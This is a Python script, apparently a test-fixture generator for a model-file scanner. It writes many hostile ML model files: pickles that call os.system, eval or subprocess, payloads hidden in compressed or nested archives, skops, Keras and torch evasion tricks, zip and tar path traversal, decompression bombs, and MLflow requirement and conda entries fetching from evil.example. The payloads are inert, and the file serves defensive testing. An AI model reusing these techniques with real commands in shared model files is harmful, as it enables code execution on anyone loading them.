"""Writes models that would do something when they are loaded (`python hostile_models.py FOLDER`).

Every payload is harmless: `true` in a shell, a file that is not there, a name that does not exist. Most are written
opcode by opcode, so that nothing of theirs runs here either.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np

MLMODEL = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def call(module: str, attribute: str, *arguments: str | bytes) -> bytes:
    """A pickle (protocol 4) that calls a global with texts; bytes are opcodes that push a value."""
    pushed = b"".join(text(a) if isinstance(a, str) else a for a in arguments)
    return b"\x80\x04" + name(module, attribute) + b"(" + pushed + b"tR."


def blob(data: bytes) -> bytes:
    """Opcodes that push bytes."""
    return b"B" + struct.pack("<I", len(data)) + data


class Shell:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("true",)


SHELL = pickle.dumps(Shell(), 4)
GOOD = pickle.dumps({"a": 1}, 4)


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return buffer.getvalue()


def tarred(*members: tuple[tarfile.TarInfo, bytes], mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for member, content in members:
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


def link(target: str) -> tarfile.TarInfo:
    member = tarfile.TarInfo("weights")
    member.type, member.linkname = tarfile.SYMTYPE, target
    return member


def npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def joblib_stream(value: object) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump(value, buffer)
    return buffer.getvalue()


def hidden_in_array() -> bytes:
    """For joblib an array of bytes; for `pickle.load`, which knows no arrays, the rest of the program."""
    program = call("os", "system", "true")[2:]
    filler = np.frombuffer(b"N" * 64 + program, dtype="u1")
    stream = joblib_stream(filler)
    start = stream.index(b"N" * 64)
    padding = stream[:start].rindex(b"b") + 1
    # Before an array stands the length of a padding, and the padding: here both are opcodes (N is 78).
    return stream[:padding] + b"N" * (1 + ord("N")) + stream[start:]


def flipped(data: bytes, what: bytes, to: bytes) -> bytes:
    """The first occurrence replaced: in a zip archive that is the member's own header, not the directory's."""
    at = data.index(what)
    return data[:at] + to + data[at + len(what) :]


def encrypted(data: bytes) -> bytes:
    """Says that its first member is encrypted, which some readers believe and others do not look at."""
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(magic) + offset
        data = data[:at] + b"\x01\x00" + data[at + 2 :]
    return data


def skops(node: dict[str, object]) -> bytes:
    schema = {"protocol": 2, "_skops_version": "0.13.0", **node}
    return zipped({"schema.json": json.dumps(schema).encode()})


def node(module: str, name: str, loader: str, **more: object) -> dict[str, object]:
    return {"__module__": module, "__class__": name, "__loader__": loader, **more}


def json_node(value: object) -> dict[str, object]:
    return node("builtins", "str", "JsonNode", content=json.dumps(value), is_json=True)


def sequence(kind: str, *items: object) -> dict[str, object]:
    return node("builtins", kind, f"{kind.title()}Node", content=list(items))


# An estimator without a state, on the stack.
PIPELINE = b"\x80\x04" + name("sklearn.pipeline", "Pipeline") + b")\x81"
_CODE = {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"x").decode()}}
LAMBDA = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": _CODE}}


def keras(config: dict[str, object]) -> bytes:
    return zipped({"config.json": json.dumps(config).encode(), "metadata.json": b"{}"})


def files() -> dict[str, bytes]:
    """Hostile files by name."""
    old = b"cos\nsystem\n(S'true'\ntR."
    return {
        **{f"protocol-{p}.pkl": pickle.dumps(Shell(), p) for p in range(6)},
        "eval.pkl": call("builtins", "eval", "1 + 1"),
        "exec.pkl": call("builtins", "exec", "x = 1"),
        "popen.pkl": call("subprocess", "Popen", "true"),
        "run-path.pkl": call("runpy", "run_path", "nowhere.py"),
        "import.pkl": call("importlib", "import_module", "this"),
        "browser.pkl": call("webbrowser", "open", "about:blank"),
        "remove.pkl": call("shutil", "rmtree", "nowhere"),
        "remove-2.pkl": call("os", "remove", "nowhere"),
        "environment.pkl": call("os", "putenv", "NOTHING", "x"),
        "connect.pkl": call("socket", "create_connection", b"(" + text("127.0.0.1") + b"K\x09t"),
        "request.pkl": call("urllib.request", "urlopen", "http://127.0.0.1:9"),
        "get-attribute.pkl": call("builtins", "getattr", name("numpy", "ndarray"), "__new__"),
        "attribute-getter.pkl": call("operator", "attrgetter", "__globals__"),
        "method-caller.pkl": call("operator", "methodcaller", "upper"),
        "partial.pkl": call("functools", "partial", name("os", "system"), "true"),
        "map.pkl": call("builtins", "map", name("os", "system"), b"](" + text("true") + b"e"),
        "pip.pkl": call("pip", "main", b"]" + text("--version") + b"a"),
        "library.pkl": call("ctypes", "CDLL", "nowhere.so"),
        "code.pkl": call("marshal", "loads", blob(b"\xe3")),
        "function.pkl": call("types", "FunctionType", b"N", b"}"),
        "make-class.pkl": call("builtins", "type", "X", b")", b"}"),
        "timeit.pkl": call("timeit", "timeit", "pass"),
        "profile.pkl": call("cProfile", "run", "pass"),
        "debugger.pkl": call("bdb", "Bdb"),
        "pty.pkl": call("pty", "spawn", "true"),
        "asyncio.pkl": call("asyncio.unix_events", "_UnixSubprocessTransport._start", "true"),
        "numpy-run.pkl": call("numpy.testing._private.utils", "runstring", "pass", b"}"),
        "numpy-eval.pkl": call("numpy.f2py.crackfortran", "myeval", "1"),
        "numpy-import.pkl": call("numpy._core", "_ufunc_reconstruct", "this", "s"),
        "write-open.pkl": call("builtins", "open", "/dev/null", "w"),
        "write-file.pkl": call("io", "FileIO", "/dev/null", "w"),
        "write-path.pkl": call("pathlib", "Path.write_text", call("pathlib", "PurePath", "x")[2:-1], "x"),
        "write-array.pkl": call("numpy", "savetxt", "/dev/null", b"]"),
        "write-dump.pkl": call("joblib", "dump", b"]", "/dev/null"),
        "log-config.pkl": call("logging.config", "fileConfig", "nowhere.ini"),
        "nested-pickle.pkl": call("pickle", "loads", blob(SHELL)),
        "nested-c-pickle.pkl": call("_pickle", "loads", blob(SHELL)),
        "nested-cloudpickle.pkl": call("cloudpickle", "loads", blob(SHELL)),
        "nested-joblib.pkl": call("joblib", "load", "model.pkl"),
        "nested-pandas.pkl": call("pandas", "read_pickle", "model.pkl"),
        "nested-numpy.pkl": call("numpy", "load", "x.npy", b"N", b"\x88"),
        "nested-torch.pkl": call("torch", "load", "model.pt"),
        "dotted.pkl": call("pandas.io.common", "os.system", "true"),
        "dotted-globals.pkl": call("sklearn.linear_model._logistic", "LogisticRegression.fit.__globals__.get", "x"),
        "memo.pkl": b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94" + b"00h\x00h\x01\x93("
        + text("true") + b"tR.",
        "popped.pkl": b"\x80\x04" + text("os") + text("x") + b"0" + text("system") + b"\x93(" + text("true")
        + b"tR.",
        "computed-name.pkl": b"\x80\x04" + name("_codecs", "encode") + b"(" + text("bf") + text("rot13") + b"tR"
        + text("system") + b"\x93(" + text("true") + b"tR.",
        "instance.pkl": b"(S'true'\nios\nsystem\n.",
        "object.pkl": b"(cos\nsystem\nS'true'\no.",
        "new-object.pkl": b"\x80\x04" + name("os", "system") + text("true") + b"\x85}\x92.",
        "state.pkl": b"\x80\x04" + name("functools", "partial") + name("os", "system") + b"\x85R.",
        "class-changed.pkl": b"\x80\x04" + name("sklearn.pipeline", "Pipeline") + b"N}" + text("predict")
        + name("numpy", "abs") + b"s\x86b.",
        # Attributes by a computed mapping for the slots, and by pairs, which a dictionary takes as well.
        "slots.pkl": PIPELINE + b"N" + name("collections", "OrderedDict") + b"]" + text("predict")
        + name("numpy", "max") + b"\x86a\x85R\x86b.",
        "pairs.pkl": PIPELINE + b"(" + text("predict") + name("numpy", "max") + b"\x86lb.",
        "extension.pkl": b"\x80\x02\x82\x01(X\x04\x00\x00\x00truetR.",
        "python-2.pkl": b"c__builtin__\neval\n(S'1'\ntR.",
        "python-2-commands.pkl": b"ccommands\ngetoutput\n(S'true'\ntR.",
        "truncated.pkl": SHELL[:-1],
        "damaged-behind.pkl": SHELL[:-1] + b"\xff\xff\xff",
        "second.pkl": GOOD + SHELL,
        "padded.pkl": GOOD + b"\0" * 100 + SHELL,
        "frame.pkl": b"\x80\x04\x95\x01\0\0\0\0\0\0\0" + SHELL[2:],
        "notes.txt": old,
        "model.onnx": SHELL,
        "image.png": SHELL,
        "zlib.joblib": zlib.compress(SHELL),
        "gzip.joblib": gzip.compress(SHELL, mtime=0),
        "bz2.joblib": bz2.compress(SHELL),
        "xz.joblib": lzma.compress(SHELL),
        "lzma.joblib": lzma.compress(SHELL, lzma.FORMAT_ALONE),
        "double.joblib": gzip.compress(zlib.compress(SHELL), mtime=0),
        "lz4.joblib": b"\x04\x22\x4d\x18" + SHELL,
        "joblib-array.joblib": joblib_stream([np.arange(9.0), np.array([Shell()], dtype=object), np.arange(3)]),
        "array-program.joblib": hidden_in_array(),
        "zip-in-zip.zip": zipped({"a.zip": zipped({"b.zip": zipped({"model.pkl": SHELL})})}),
        "tar.tar": tarred((tarfile.TarInfo("model.pkl"), SHELL)),
        "tar-gz.tar.gz": gzip.compress(tarred((tarfile.TarInfo("x/model.pkl"), SHELL)), mtime=0),
        "tar-name.tar": tarred((tarfile.TarInfo(old.decode()[:-1] + "0cos\nsystem\n(S'true'\ntR."), b"x")),
        "objects.npy": npy(np.array([Shell()], dtype=object)),
        "objects.npz": zipped({"a.npy": npy(np.array([Shell()], dtype=object))}, zipfile.ZIP_DEFLATED),
        "torch.pt": zipped({"m/data.pkl": SHELL, "m/version": b"3\n"}),
        "torch-old.pt": call("os", "system", "true") + GOOD,
        "torch-checksum.pt": flipped(zipped({"m/data.pkl": SHELL, "m/version": b"3\n"}), b"true", b"TRUE"),
        "torch-encrypted.pt": encrypted(zipped({"m/data.pkl": SHELL, "m/version": b"3\n"})),
        "torch-name.pt": flipped(zipped({"m/data.txt": SHELL}), b"m/data.txt", b"m/data.pkl"),
        "pickle-and-zip.pt": SHELL + zipped({"m/version": b"3\n"}),
        "torchscript.pt": zipped({"m/data.pkl": GOOD, "m/code/__torch__.py": b"def forward(self): pass"}),
        "function.skops": skops(node("os", "system", "FunctionNode")),
        "object.skops": skops(node("subprocess", "Popen", "ObjectNode")),
        "reduce.skops": skops(node("os", "system", "ConstructorFromReduceNode", content=json_node(["true"]))),
        "operator.skops": skops(node("operator", "methodcaller", "OperatorFuncNode", attrs=json_node(["x"]))),
        "method.skops": skops(node("numpy", "ndarray", "MethodNode",
                                   content={"func": "tofile", "obj": node("numpy", "ndarray", "NdArrayNode")})),
        "partial.skops": skops(node("functools", "partial", "PartialNode", content={
            "func": node("os", "system", "FunctionNode"), "args": json_node(["true"])})),
        # The node says that it belongs to a module of reviewed names; the method is one of what it holds.
        "method-lies.skops": skops(node("numpy._core", "multiarray", "MethodNode",
                                        content={"func": "scalar", "obj": node("numpy", "ndarray", "NdArrayNode")})),
        "partial-roundabout.skops": skops(node("functools", "partial", "ConstructorFromReduceNode",
                                               content=sequence("tuple", node("functools", "partial", "TypeNode")))),
        "partial-object.skops": skops(node("functools", "partial", "PartialNode", content={
            "func": node("sklearn.pipeline", "Pipeline", "ObjectNode"), "args": sequence("tuple")})),
        "pairs.skops": skops(node("sklearn.pipeline", "Pipeline", "ObjectNode", content=sequence(
            "list", sequence("tuple", json_node("transform"), node("numpy", "max", "FunctionNode"))))),
        "lambda.keras": keras({"module": "keras", "class_name": "Sequential", "config": {"layers": [LAMBDA]}}),
        "module.keras": keras({"module": "os", "class_name": "system", "config": {"command": "true"}}),
        "lambda.h5": b"\x89HDF\r\n\x1a\n" + bytes(64) + b"model_config" + json.dumps(LAMBDA).encode(),
        "library.so": b"\x7fELF" + bytes(64),
        "program.py": b"import os\n",
        "bomb.gz": gzip.compress(bytes(300 << 20), 9, mtime=0),
        "bomb.zip": zipped({"zeros.bin": bytes(300 << 20)}, zipfile.ZIP_DEFLATED),
        "slip.zip": zipped({"../../evil.txt": b"x"}),
        "absolute.zip": zipped({"/evil.txt": b"x"}),
        "slip.tar": tarred((tarfile.TarInfo("../evil.txt"), b"x")),
        "link.tar": tarred((link("/etc/passwd"), b"")),
    }  # fmt: skip


def mlflow_model(folder: Path, mlmodel: str, **members: bytes) -> None:
    folder.mkdir()
    (folder / "MLmodel").write_text(mlmodel)
    for member, content in members.items():
        stem, _, suffix = member.rpartition("_")
        path = folder / f"{stem.replace('__', '/')}.{suffix}"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content)


def _symlink(folder: Path) -> None:
    mlflow_model(folder, MLMODEL)
    (folder / "model.pkl").symlink_to("/etc/hostname")


def folders() -> dict[str, Callable[[Path], None]]:
    """Hostile MLflow models by name."""

    def flavor(**entries: object) -> str:
        return json.dumps({"flavors": {"python_function": entries}})

    def model(mlmodel: str, **members: bytes) -> Callable[[Path], None]:
        return lambda folder: mlflow_model(folder, mlmodel, **members)

    sklearn = {"loader_module": "mlflow.sklearn"}
    trusting = {"flavors": {"python_function": {**sklearn, "model_path": "model.skops"},
                            "sklearn": {"pickled_model": "model.skops", "serialization_format": "skops",
                                        "skops_trusted_types": ["os.system"]}}}  # fmt: skip
    system = skops(node("os", "system", "FunctionNode"))
    return {
        "mlflow-pickle": model(MLMODEL, model_pkl=SHELL),
        "mlflow-loader": model(flavor(loader_module="evil", code="code"), code__evil_py=b"def _load_pyfunc(p): pass\n"),
        "mlflow-loader-installed": model(flavor(loader_module="antigravity")),
        "mlflow-code": model(
            flavor(loader_module="mlflow.pyfunc.loaders.code_model", model_code_path="m.py"), m_py=b"x = 1\n"
        ),
        "mlflow-shadow": model(flavor(**sklearn, model_path="model.pkl", code="code"), model_pkl=GOOD,
                               code__sklearn_py=b"x = 1\n"),
        "mlflow-python-model": model(flavor(loader_module="mlflow.pyfunc.model", python_model="python_model.pkl"),
                                     python_model_pkl=call("cloudpickle.cloudpickle", "_make_skeleton_class", b"N")),
        "mlflow-text": model(flavor(**sklearn, model_path="notes.txt"), notes_txt=b"cos\nsystem\n(S'true'\ntR."),
        "mlflow-outside": model(flavor(**sklearn, model_path="../../evil.pkl")),
        "mlflow-absolute": model(flavor(**sklearn, data="/evil.pkl")),
        "mlflow-symlink": _symlink,
        "mlflow-skops-trusts-itself": model(json.dumps(trusting), model_skops=system),
        "mlflow-class": model(json.dumps({"flavors": {"xgboost": {"data": "model.xgb", "model_class": "os.system"}}})),
        "mlflow-method": model(flavor(**sklearn, predict_fn="__class__"), model_pkl=GOOD),
        "mlflow-requirements": model(flavor(**sklearn), requirements_txt=b"--index-url http://evil.example\nnumpy\n"),
        "mlflow-requirement-url": model(flavor(**sklearn), requirements_txt=b"numpy @ https://evil.example/numpy.whl\n"),
        "mlflow-conda": model(flavor(**sklearn), conda_yaml=b"dependencies:\n- pip:\n  - git+https://evil.example/x\n"),
        "mlflow-conda-merge": model(
            flavor(**sklearn), conda_yaml=b"<<: {dependencies: [{pip: ['git+https://evil.example/x']}]}\n"
        ),
        "mlflow-conda-merge-inside": model(
            flavor(**sklearn), conda_yaml=b"dependencies:\n- <<: {pip: ['git+https://evil.example/x']}\n"
        ),
        "mlflow-conda-channel": model(
            flavor(**sklearn), conda_yaml=b"channels: ['https://evil.example/c']\ndependencies: [numpy]\n"
        ),
        "mlflow-conda-text": model(flavor(**sklearn), conda_yaml=b"dependencies:\n- pip: evil\n"),
        "mlflow-conda-mapping": model(
            flavor(**sklearn), conda_yaml=b"dependencies: {pip: ['git+https://evil.example/x']}\n"
        ),
        "mlflow-conda-variables": model(
            flavor(**sklearn), conda_yaml=b"variables: {LD_PRELOAD: evil.so}\ndependencies: [numpy]\n"
        ),
        "mlflow-broken": model("flavors: [", model_pkl=GOOD),
    }  # fmt: skip


def write_all(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for file, content in files().items():
        (folder / file).write_bytes(content)
    for model, write in folders().items():
        write(folder / model)


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
